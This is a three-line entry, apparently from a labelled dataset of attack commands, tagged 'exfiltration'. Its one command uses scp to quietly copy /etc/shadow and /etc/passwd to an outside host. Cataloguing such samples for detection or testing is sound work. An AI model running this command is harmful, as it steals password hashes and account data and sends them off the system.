# description: Copies /etc/shadow and /etc/passwd to an outside host with scp.
# family: exfiltration
scp -q /etc/shadow /etc/passwd backup@203.0.113.9:/srv/drop/
